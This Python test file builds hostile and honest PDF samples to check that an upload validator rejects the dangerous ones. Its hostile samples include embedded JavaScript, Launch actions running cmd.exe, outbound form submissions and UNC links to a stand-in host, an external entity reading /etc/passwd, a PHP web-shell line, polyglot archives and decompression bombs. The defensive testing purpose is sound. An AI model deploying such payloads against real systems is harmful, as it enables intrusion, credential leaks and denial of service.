"""More PDFs that must be refused, and more honest ones that must not: (extension, builder, code), judged in one sandbox run."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String

from tests.files import docx_members, jpeg_image, pdf, pdf_cv, pdf_stream, zipped
from tests.hostile_files import FONT, attached_pdf, flate, one_page, simple_field, template, xfa

SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
UNC = b"(\\\\\\\\x.example\\\\share\\\\y.pdf)"


def annotated(action: bytes, *more: bytes) -> bytes:
    """A link that does this when it is clicked."""
    return one_page(b"", b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A %s >>]" % action, *more)


def saved(change: Callable[[pikepdf.Pdf], object] | None = None, **how: object) -> bytes:
    """The CV, changed and written anew by qpdf."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf_cv(pages=2))) as opened:
        if change:
            change(opened)
        opened.save(out, **how)
    return out.getvalue()


def packed(data: bytes) -> bytes:
    """The same with everything in compressed object streams."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(data)) as opened:
        opened.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return out.getvalue()


def cut(data: bytes, share: float) -> bytes:
    return data[: int(len(data) * share)]


def wide_pages(count: int) -> bytes:
    kids = b"3 0 R " * count
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count),
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        ]
    )


def looped_pages() -> bytes:
    return pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>"])


def laughing_forms(levels: int = 12) -> bytes:
    """Each form draws the next ten times."""
    forms = [
        pdf_stream(
            b"/X Do " * 10,
            b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X %d 0 R >> >>" % (7 + level),
        )
        for level in range(levels)
    ]
    last = pdf_stream(b"0 0 9 9 re f " * 20, b"/Type /XObject /Subtype /Form /BBox [0 0 9 9]")
    return one_page(b"", b"/Resources << /XObject << /X 6 0 R >> >>", *forms, last, content=pdf_stream(b"/X Do"))


def certificate_lock() -> bytes:
    """Encrypted for whoever holds a certificate."""
    lock = b"/Encrypt << /Filter /Adobe.PubSec /SubFilter /adbe.pkcs7.s5 /V 4 /Length 128 /Recipients [(x)] >> /ID [(a) (a)]"
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"]
    return pdf([*objects, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"], trailer=lock)


def locked(level: int) -> bytes:
    return saved(
        encryption=pikepdf.Encryption(owner="owner", user="hemmelig", R=level, aes=level > 3, metadata=level > 3)
    )


def opened_lock(level: int) -> bytes:
    return saved(encryption=pikepdf.Encryption(owner="owner", user="", R=level, aes=level > 3, metadata=level > 3))


def zip_around(data: bytes) -> bytes:
    """A PDF that is an archive as well: its directory stands behind it and its comment ends where the file does."""
    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("META-INF/MANIFEST.MF", "Main-Class: A")
        archive.writestr("A.class", b"\xca\xfe\xba\xbe" + bytes(40))
    return out.getvalue()


def zip_within(data: bytes) -> bytes:
    """The same with the archive in a stream in the middle: the PDF's own tail is its comment."""
    body, tail = data[: data.rfind(b"xref\n0")], data[data.rfind(b"xref\n0") :]
    inner = bytearray(zipped({"A.class": b"\xca\xfe\xba\xbe"}))
    directory = inner.rfind(b"PK\x01\x02")
    struct.pack_into("<L", inner, directory + 42, len(body))
    end = inner.rfind(b"PK\x05\x06")
    struct.pack_into("<L", inner, end + 16, len(body) + directory)
    struct.pack_into("<H", inner, end + 20, len(tail))
    return body + bytes(inner) + tail


def embedded_alone(data: bytes) -> bytes:
    """An embedded file no directory of attachments names."""
    return one_page(b"/Odd 6 0 R", b"", pdf_stream(data, b"/Type /EmbeddedFile"))


def encrypted_zip(name: str) -> bytes:
    """An archive whose only member says that it is behind a password."""
    data = bytearray(zipped({name: b"x" * 40}))
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        data[data.find(mark) + place] |= 1
    return bytes(data)


PREFIXES: dict[str, bytes] = {
    "7z": b"7z\xbc\xaf\x27\x1c",
    "ar": b"!<arch>\n",
    "avi": b"RIFF\x24\0\0\0AVI ",
    "bmp": b"BM\x36\0\0\0",
    "bz2": b"BZh91AY&SY",
    "cab": b"MSCF\0\0\0\0",
    "class": b"\xca\xfe\xba\xbe\0\0\0\x34",
    "dicom": bytes(128) + b"DICM",
    "elf": b"\x7fELF\2\1\1",
    "exe": b"MZ\x90\0\3\0\0\0",
    "fat_mach_o": b"\xfe\xed\xfa\xce",
    "flac": b"fLaC\0\0\0\x22",
    "flv": b"FLV\1\5\0\0\0\x09",
    "gif": b"GIF87a\1\0\1\0",
    "gzip": b"\x1f\x8b\x08\0",
    "html": b"<!DOCTYPE html><script>alert(1)</script>",
    "html_later": b"a b c <img src=x onerror=alert(1)>",
    "icc": bytes(36) + b"acsp",
    "ico": b"\0\0\1\0\1\0\x10\x10",
    "jpeg": b"\xff\xd8\xff\xe0\0\x10JFIF\0",
    "jpeg2000": b"\0\0\0\x0cjP  \r\n\x87\n",
    "js": b"var a=1;/*",
    "lnk": b"L\0\0\0\1\x14\2\0",
    "mach_o": b"\xcf\xfa\xed\xfe\7\0\0\1",
    "midi": b"MThd\0\0\0\6",
    "mkv": b"\x1aE\xdf\xa3",
    "mp3": b"ID3\3\0\0\0\0\0\x21",
    "mp4": b"\0\0\0\x20ftypisom",
    "ogg": b"OggS\0\2",
    "ole": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
    "pcap": b"\xd4\xc3\xb2\xa1\2\0\4\0",
    "php": b"<?php system($_GET[0]); ?>",
    "png": b"\x89PNG\r\n\x1a\n\0\0\0\x0dIHDR",
    "ps": b"%!PS-Adobe-3.0 EPSF-3.0\n",
    "psd": b"8BPS\0\1",
    "rar": b"Rar!\x1a\7\0",
    "rtf": b"{\\rtf1 ",
    "shell": b"#!/bin/sh\nid\n",
    "sqlite": b"SQLite format 3\0",
    "svg": b"<svg onload=alert(1)>",
    "tar": b"cv.pdf".ljust(100, b"\0") + b"0000644\0".ljust(157, b"\0") + b"ustar\x0000".ljust(255, b"\0"),
    "tiff": b"II*\0\x08\0\0\0",
    "tiff_big": b"MM\0*\0\0\0\x08",
    "wasm": b"\0asm\1\0\0\0",
    "wav": b"RIFF\x24\0\0\0WAVE",
    "xar": b"xar!\0\x1c\0\1",
    "xz": b"\xfd7zXZ\0",
    "zip": b"PK\x03\x04\x14\0",
    "batch": b"@echo off\r\ncalc.exe\r\nexit\r\n",
    "vbs": b'Set a = CreateObject("WScript.Shell")\r\n',
    "powershell": b"powershell -enc AAAA\r\n",
    "zip_empty": b"PK\5\6" + bytes(18),
    "dex": b"dex\n035\0",
    "cpio": b"070701",
}


HOSTILE: dict[str, tuple[str, Callable[[], bytes], str]] = {
    f"prefix_{name}": ("pdf", lambda start=start: start + b"\n" + pdf_cv(), "two_types")
    for name, start in PREFIXES.items()
}
HOSTILE |= {
    name: ("pdf", build, code)
    for name, build, code in [
        (
            "fdf",
            lambda: b"%FDF-1.2\n1 0 obj\n<< /FDF << /F (x) >> >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n",
            "wrong_type",
        ),
        ("header_late", lambda: b"a" * 1_100 + pdf_cv(), "wrong_type"),
        ("postscript", lambda: b"%!PS-Adobe-3.0\n/Helvetica findfont 12 scalefont setfont showpage\n", "wrong_type"),
        ("script_on_click", lambda: annotated(SCRIPT), "scripts"),
        ("script_packed", lambda: packed(annotated(SCRIPT)), "scripts"),
        ("script_escaped", lambda: annotated(b"<< /#53 /#4a#61vaScript /#4aS (a) >>"), "scripts"),
        (
            "script_in_stream",
            lambda: annotated(b"<< /S /JavaScript /JS 6 0 R >>", pdf_stream(b"app.alert(1)")),
            "scripts",
        ),
        (
            "script_in_outline",
            lambda: one_page(
                b"/Outlines << /First 6 0 R /Last 6 0 R /Count 1 >>", b"", b"<< /Title (a) /A %s >>" % SCRIPT
            ),
            "scripts",
        ),
        (
            "script_in_field",
            lambda: one_page(
                b"/AcroForm << /Fields [6 0 R] >>", b"", b"<< /FT /Tx /T (a) /AA << /K 7 0 R >> >>", SCRIPT
            ),
            "scripts",
        ),
        (
            "script_in_name_tree_below",
            lambda: one_page(
                b"/Names << /JavaScript << /Kids [6 0 R] >> >>",
                b"",
                b"<< /Limits [(a) (a)] /Names [(a) 7 0 R] >>",
                SCRIPT,
            ),
            "scripts",
        ),
        (
            "script_of_a_model",
            lambda: one_page(
                b"",
                b"/Annots [<< /Subtype /3D /Rect [0 0 9 9] /3DD 6 0 R >>]",
                pdf_stream(b"U3D\0", b"/Type /3D /Subtype /U3D /OnInstantiate 7 0 R"),
                pdf_stream(b"console.println(1)"),
            ),
            "scripts",
        ),
        ("rendition", lambda: annotated(b"<< /S /Rendition /OP 0 /JS (app.alert\\(1\\)) >>"), "scripts"),
        (
            "rich_media",
            lambda: one_page(b"", b"/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << >> >>]"),
            "scripts",
        ),
        ("launch_windows", lambda: annotated(b"<< /S /Laun#63h /Win << /F (cmd.exe) /P (/c calc) >> >>"), "launch"),
        (
            "launch_chained",
            lambda: annotated(b"<< /S /GoTo /D [4 0 R /Fit] /Next 6 0 R >>", b"<< /S /Launch /F (a.exe) >>"),
            "launch",
        ),
        ("submit_on_click", lambda: annotated(b"<< /S /SubmitForm /F (https://x.example/) >>"), "calls_out"),
        ("gotor_unc", lambda: annotated(b"<< /S /GoToR /F %s /D [0 /Fit] >>" % UNC), "calls_out"),
        (
            "gotor_unc_specified",
            lambda: annotated(b"<< /S /GoToR /F << /Type /Filespec /F %s /UF %s >> /D [0 /Fit] >>" % (UNC, UNC)),
            "calls_out",
        ),
        (
            "gotor_http",
            lambda: annotated(b"<< /S /GoToR /F << /FS /URL /F (http://x.example/a.pdf) >> /D [0 /Fit] >>"),
            "calls_out",
        ),
        ("gotoe_unc", lambda: annotated(b"<< /S /GoToE /F %s /D [0 /Fit] >>" % UNC), "calls_out"),
        ("gotoe_on_page", lambda: one_page(b"", b"/AA << /O << /S /GoToE /F %s /D [0 /Fit] >> >>" % UNC), "calls_out"),
        (
            "uri_chained_to_opening",
            lambda: one_page(
                b"/OpenAction << /S /GoTo /D [4 0 R /Fit] /Next << /S /URI /URI (http://x.example/) >> >>"
            ),
            "calls_out",
        ),
        ("uri_on_page", lambda: one_page(b"", b"/AA << /C << /S /URI /URI (http://x.example/) >> >>"), "calls_out"),
        ("xfa_script_utf16", lambda: xfa("<script>a</script>".encode("utf-16-le")), "scripts"),
        ("xfa_script_prefixed", lambda: xfa(b"<xfa:script >a</xfa:script>"), "scripts"),
        ("xfa_submit", lambda: xfa(b"<event><submit target='http://x.example/'/></event>"), "scripts"),
        ("xfa_stylesheet", lambda: xfa(b"<?xml-stylesheet type='text/xsl' href='\\\\x.example\\a.xsl'?>"), "scripts"),
        ("xfa_entities", lambda: xfa(b"<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>"), "scripts"),
        (
            "xfa_in_string",
            lambda: one_page(b"/AcroForm << /Fields [] /XFA [(template) (<script>a</script>)] >>"),
            "scripts",
        ),
        ("attached_script_pdf", lambda: attached_pdf("vedlegg.pdf", annotated(SCRIPT)), "scripts"),
        (
            "attached_dde",
            lambda: attached_pdf("a.docx", zipped(docx_members(["a"], body=simple_field("DDE a b c")))),
            "dde",
        ),
        (
            "attached_remote_template",
            lambda: attached_pdf("a.docx", template("http://x.example/t.dotm")),
            "remote_template",
        ),
        ("attached_html", lambda: attached_pdf("a.html", b"<script>alert(1)</script>"), "program_inside"),
        ("attached_html_renamed", lambda: attached_pdf("a.txt", b"<html><script>alert(1)</script>"), "program_inside"),
        ("attached_svg", lambda: attached_pdf("a.svg", b"<svg><script>alert(1)</script></svg>"), "program_inside"),
        ("attached_js", lambda: attached_pdf("a.pdf.js", b"WScript.Echo(1)"), "program_inside"),
        ("attached_python", lambda: attached_pdf("a.py", b"import os"), "program_inside"),
        ("attached_spaced", lambda: attached_pdf("a.exe  ", b"x"), "program_inside"),
        ("attached_exe_in_zip", lambda: attached_pdf("a.zip", zipped({"b/a.exe": b"x"})), "program_inside"),
        (
            "attached_exe_two_zips_in",
            lambda: attached_pdf("a.zip", zipped({"b.zip": zipped({"a.scr": b"MZ"})})),
            "program_inside",
        ),
        ("attached_exe_in_locked_zip", lambda: attached_pdf("a.zip", encrypted_zip("a.exe")), "program_inside"),
        ("attached_iso", lambda: attached_pdf("a.iso", bytes(100)), "program_inside"),
        ("attached_xlm", lambda: attached_pdf("a.xlsx", zipped({"xl/macrosheets/sheet1.xml": "<a/>"})), "macros"),
        ("attached_nowhere", lambda: embedded_alone(b"MZ" + bytes(90)), "program_inside"),
        ("attached_bomb", lambda: attached_pdf("a.txt", bytes(150_000_000)), "bomb"),
        ("attached_zip_bomb", lambda: attached_pdf("a.zip", zipped({"a": bytes(150_000_000)})), "bomb"),
        ("archive_behind", lambda: zip_around(pdf_cv()), "two_types"),
        ("archive_within", lambda: zip_within(pdf_cv()), "two_types"),
        ("page_behind", lambda: pdf_cv() + b"\n<html><script>alert(1)</script>", "two_types"),
        ("php_behind", lambda: pdf_cv() + b"\n<?php system('id'); ?>", "two_types"),
        (
            "eicar_behind",
            lambda: pdf_cv() + b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*",
            "malware",
        ),
        ("100000_pages", lambda: wide_pages(100_000), "too_many_pages"),
        ("looped_pages", looped_pages, "damaged"),
        (
            "no_pages",
            lambda: pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"]),
            "damaged",
        ),
        ("giant_side", lambda: one_page(b"", b"/MediaBox [0 0 595 2147483647]"), "bomb"),
        (
            "hex_then_flate_bomb",
            lambda: one_page(
                content=pdf_stream(
                    zlib.compress(bytes(150_000_000), 9).hex().encode() + b">",
                    b"/Filter [/ASCIIHexDecode /FlateDecode]",
                )
            ),
            "bomb",
        ),
        ("four_flates", lambda: one_page(content=flate(b"0 0 m " * 30_000_000, 4)), "bomb"),
        ("many_flates", lambda: one_page(content=flate(b"0 0 m ", 12)), "bomb"),
        ("lzw_bomb", lambda: one_page(content=pdf_stream(lzw_zeros(20), b"/Filter /LZWDecode")), "unreadable"),
        (
            "run_length_bomb",
            lambda: one_page(
                content=pdf_stream(zlib.compress(b"\x81\0" * 1_000_000, 9), b"/Filter [/FlateDecode /RunLengthDecode]")
            ),
            "bomb",
        ),
        ("xref_stream_bomb", lambda: xref_stream_bomb(), "damaged"),
        ("locked_rc4", lambda: locked(3), "encrypted"),
        ("locked_aes", lambda: locked(4), "encrypted"),
        ("locked_by_certificate", certificate_lock, "encrypted"),
        (
            "linked_stream",
            lambda: one_page(content=b"<< /Length 0 /F << /FS /URL /F (http://x.example/) >> >>\nstream\n\nendstream"),
            "external_content",
        ),
    ]
}


def lzw_zeros(rounds: int) -> bytes:
    """LZW by hand: each code stands for one zero more than the last, until the table is full and begins anew."""
    number, length = 0, 0
    for code in (256, 0, *range(258, 4094)):
        width = 9 if code < 511 else 10 if code < 1023 else 11 if code < 2047 else 12
        number, length = number << width | code, length + width
    number, length = number << (-length % 8), length + -length % 8
    return number.to_bytes(length // 8) * rounds


def xref_stream_bomb() -> bytes:
    """The table of places itself unfolds to a gigabyte."""
    body = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
    packer = zlib.compressobj(9)
    table = b"".join(packer.compress(bytes(10_000_000)) for _ in range(100)) + packer.flush()
    entries = b"/Type /XRef /Size 100000000 /W [1 8 1] /Root 1 0 R /Filter /FlateDecode"
    return body + b"3 0 obj\n" + pdf_stream(table, entries) + b"\nendobj\nstartxref\n%d\n%%%%EOF" % len(body)


def incremental() -> bytes:
    """Saved twice: the second version stands behind the first."""
    first = pdf_cv()
    start = len(first)
    body = b"4 0 obj\n<< /Type /Page /Parent 2 0 R /Contents 5 0 R /MediaBox [0 0 9 9] /Resources << /Font << /F1 3 0 R >> >> >>\nendobj\n"
    table = b"xref\n4 1\n%010d 00000 n \ntrailer\n<< /Size 6 /Root 1 0 R /Prev %d >>\n" % (
        start,
        first.rfind(b"xref\n0"),
    )
    return first + body + table + b"startxref\n%d\n%%%%EOF\n" % (start + len(body))


def with_image(data: bytes, entries: bytes) -> bytes:
    head = b"/Type /XObject /Subtype /Image /Width 40 /Height 30 /BitsPerComponent 8 " + entries
    return one_page(
        b"",
        b"/Resources << /Font << /F1 3 0 R >> /XObject << /I 6 0 R >> >>",
        pdf_stream(data, head),
        content=pdf_stream(b"q 400 0 0 300 0 0 cm /I Do Q BT /F1 9 Tf (Kari) Tj ET"),
    )


def form(opened: pikepdf.Pdf) -> None:
    """A field to write in, a box to tick and a button that empties them."""
    look = opened.make_stream(b"", BBox=[0, 0, 9, 9], Subtype=Name.Form)
    fields = [
        Dictionary(
            Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("navn"), V=String("Kari"), Rect=[0, 0, 99, 20]
        ),
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Btn,
            T=String("a"),
            V=Name.Off,
            Rect=[0, 0, 9, 9],
            AP=Dictionary(N=Dictionary(Off=look)),
        ),
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Btn,
            Ff=65536,
            T=String("b"),
            Rect=[0, 0, 9, 9],
            A=Dictionary(S=Name.ResetForm),
        ),
    ]
    made = Array([opened.make_indirect(each) for each in fields])
    opened.pages[0].Annots = made
    opened.Root.AcroForm = Dictionary(Fields=made, NeedAppearances=True, DA=String("/F1 0 Tf 0 g"))


def portfolio(opened: pikepdf.Pdf) -> None:
    opened.Root.Collection = Dictionary(Type=Name.Collection, View=Name.T)
    for number in range(3):
        opened.attachments[f"attest{number}.pdf"] = pikepdf.AttachedFileSpec(opened, pdf_cv())
    opened.attachments["brev.docx"] = pikepdf.AttachedFileSpec(opened, zipped(docx_members(["a"])))
    opened.attachments["bilde.jpg"] = pikepdf.AttachedFileSpec(opened, jpeg_image())


def archival(opened: pikepdf.Pdf) -> None:
    """As PDF/A says of itself."""
    with opened.open_metadata() as told:
        told["pdfaid:part"], told["pdfaid:conformance"], told["dc:title"] = "3", "A", "CV"
    profile = Stream(opened, b"acsp", N=3)
    opened.Root.OutputIntents = Array(
        [
            Dictionary(
                Type=Name.OutputIntent,
                S=Name.GTS_PDFA1,
                OutputConditionIdentifier=String("sRGB"),
                DestOutputProfile=profile,
            )
        ]
    )
    opened.Root.MarkInfo, opened.Root.Lang = Dictionary(Marked=True), String("nb-NO")
    opened.Root.StructTreeRoot = Dictionary(
        Type=Name.StructTreeRoot, K=Array([Dictionary(S=Name.Document), Dictionary(S=Name.P)])
    )


def outlined(opened: pikepdf.Pdf) -> None:
    with opened.open_outline() as outline:
        outline.root.append(pikepdf.OutlineItem("Utdanning", 1))
    opened.Root.PageMode, opened.Root.ViewerPreferences = Name.UseOutlines, Dictionary(DisplayDocTitle=True)


HONEST: dict[str, tuple[str, Callable[[], bytes]]] = {
    name: ("pdf", build)
    for name, build in [
        ("linearised", lambda: saved(linearize=True)),
        ("form", lambda: saved(form)),
        ("portfolio", lambda: saved(portfolio)),
        ("archival", lambda: saved(archival)),
        ("outline", lambda: saved(outlined)),
        ("saved_twice", incremental),
        ("incremental_packed", lambda: packed(incremental())),
        ("owner_rc4_40", lambda: opened_lock(2)),
        ("owner_rc4", lambda: opened_lock(3)),
        ("owner_aes_128", lambda: opened_lock(4)),
        ("owner_aes_256", lambda: opened_lock(6)),
        ("photo", lambda: with_image(jpeg_image(), b"/ColorSpace /DeviceRGB /Filter /DCTDecode")),
        (
            "photo_packed",
            lambda: with_image(
                zlib.compress(jpeg_image()), b"/ColorSpace /DeviceRGB /Filter [/FlateDecode /DCTDecode]"
            ),
        ),
        (
            "fax",
            lambda: with_image(
                b"\0\x10\x01", b"/ImageMask true /Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns 40 /Rows 30 >>"
            ),
        ),
        ("jbig2_broken", lambda: with_image(b"\0" * 30, b"/ColorSpace /DeviceGray /Filter /JBIG2Decode")),
        ("jpx_broken", lambda: with_image(b"\0" * 30, b"/Filter /JPXDecode")),
        ("ascii85", lambda: one_page(content=pdf_stream(b"<~6=@CG@;ZCt?UdGp0J`~>", b"/Filter /ASCII85Decode"))),
        ("link_to_file", lambda: annotated(b"<< /S /GoToR /F (vitnemaal.pdf) /D [0 /Fit] >>")),
        ("link_to_own_disk", lambda: annotated(b"<< /S /URI /URI (file:///C:/Dokumenter/CV.docx) >>")),
        ("mailto", lambda: annotated(b"<< /S /URI /URI (mailto:kari@example.test) >>")),
        ("tel", lambda: annotated(b"<< /S /URI /URI (tel:+4722334455) >>")),
        ("next_page", lambda: annotated(b"<< /S /Named /N /NextPage >>")),
        ("script_word_in_title", lambda: one_page(b"", b"", b"<< /Title (JavaScript /JavaScript /Launch) >>")),
        ("empty_attachments", lambda: one_page(b"/Names << /EmbeddedFiles << /Names [] >> >>")),
        (
            "europass_with_link",
            lambda: attached_pdf(
                "attachment.xml",
                b'<?xml version="1.0" encoding="UTF-8"?><Candidate xmlns="http://www.europass.eu/1.0"><URI>https://example.test'
                b"</URI></Candidate>",
            ),
        ),
        ("attached_locked_zip", lambda: attached_pdf("attester.zip", encrypted_zip("attest.pdf"))),
        ("attached_csv", lambda: attached_pdf("liste.csv", b"a;b\n1;2")),
        (
            "http_lines_first",
            lambda: b"HTTP/1.1 200 OK\r\nContent-Type: application/pdf\r\nContent-Length: 9\r\n\r\n" + pdf_cv(),
        ),
        (
            "form_data_first",
            lambda: (
                b'------WebKitFormBoundaryA\r\nContent-Disposition: form-data; name="a"; filename="cv.pdf"\r\n\r\n'
                + pdf_cv()
            ),
        ),
        ("zeros_first", lambda: bytes(600) + pdf_cv()),
        ("line_first", lambda: b"Utskrift fra skolens system\r\n" + pdf_cv()),
        ("bytes_first", lambda: bytes(range(128, 256)) * 4 + pdf_cv()),
        ("header_at_1000", lambda: b" " * 1_000 + pdf_cv()),
        ("page_of_a_server_behind", lambda: pdf_cv() + b"\n<br />\n<b>Warning</b>: Unknown in <b>/var/www</b>"),
        ("newlines_behind", lambda: pdf_cv() + b"\r\n" * 5_000),
        ("long_zeros_behind", lambda: pdf_cv() + bytes(2_000_000)),
        ("letters_behind", lambda: pdf_cv() + b"PK PK\x03 a"),
        ("version_odd", lambda: pdf_cv().replace(b"%PDF-1.7", b"%PDF-1.a")),
        ("version_two", lambda: pdf_cv().replace(b"%PDF-1.7", b"%PDF-2.0")),
        ("no_version", lambda: pdf_cv().replace(b"%PDF-1.7", b"%PDF-")),
        (
            "latin_author",
            lambda: pdf(
                [
                    b"<< /Type /Catalog /Pages 2 0 R >>",
                    b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
                    FONT,
                    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 5 0 R /Resources << /Font << /F1 3 0 R >> >> >>",
                    pdf_stream(b"BT /F1 9 Tf (Kari) Tj ET"),
                    b"<< /Author (\xc5se \xd8) /#c5 1 /Bl\xe5 (x) >>",
                ],
                trailer=b"/Info 6 0 R",
            ),
        ),
        ("landscape_a0", lambda: one_page(b"", b"/MediaBox [0 0 3370 2384] /Rotate 90")),
        ("one_long_page", lambda: one_page(b"", b"/MediaBox [0 0 595 14000]")),
        ("no_media_box", lambda: pdf_cv().replace(b"/MediaBox [0 0 595 842]", b"                       ")),
    ]
}


def damaged() -> dict[str, bytes]:
    """PDFs people can still read: what mail programs, printers, USB sticks and bad programs do to them."""
    plain, packed_one, linear = pdf_cv(pages=3), packed(pdf_cv(pages=3)), saved(linearize=True)
    return {
        "no_xref": plain[: plain.rfind(b"xref\n0")],
        "xref_of_another": plain.replace(b"startxref\n", b"startxref\n77"),
        "xref_shifted": plain.replace(b"0000000", b"0000001"),
        "xref_short": plain.replace(b"xref\n0 10", b"xref\n0 4"),
        "no_trailer": plain.replace(b"trailer", b"trxxler"),
        "no_root": plain.replace(b"/Root 1 0 R", b"/Roo_ 1 0 R"),
        "no_eof": plain.replace(b"%%EOF", b""),
        "no_startxref": plain.replace(b"startxref", b"stxrtxref"),
        "crlf": plain.replace(b"\n", b"\r\n"),
        "cr": plain.replace(b"\n", b"\r"),
        "seven_bits": bytes(byte & 0x7F for byte in plain),
        "no_endobj": plain.replace(b"endobj", b"      "),
        "no_endstream": plain.replace(b"endstream", b"         "),
        "wrong_length": plain.replace(b"/Length ", b"/Length 9"),
        "no_length": plain.replace(b"/Length ", b"/Xength "),
        "no_types": plain.replace(b"/Type /Page ", b"/Tipe /Page "),
        "no_count": plain.replace(b"/Count 3", b"/Coun_ 3"),
        "wrong_count": plain.replace(b"/Count 3", b"/Count 9"),
        "kid_missing": plain.replace(b"/Kids [4 0 R", b"/Kids [99 0 R 4 0 R"),
        "font_missing": plain.replace(b"/F1 3 0 R", b"/F1 9 9 R"),
        "utf8_mangled": plain.decode("latin-1").encode("utf-8"),
        "doubled": plain + plain,
        "first_in_second": plain[:700] + plain,
        "tail_of_another": plain + plain[-200:],
        "packed_doubled": packed_one + packed_one,
        "packed_no_eof": packed_one[:-6],
        "linear_cut": cut(linear, 0.97),
        "linear_moved": b"\n\n" + linear,
        "zeros_in_tail": plain[:-100] + bytes(100),
        "last_page_lost": cut(plain, 0.75),
    }
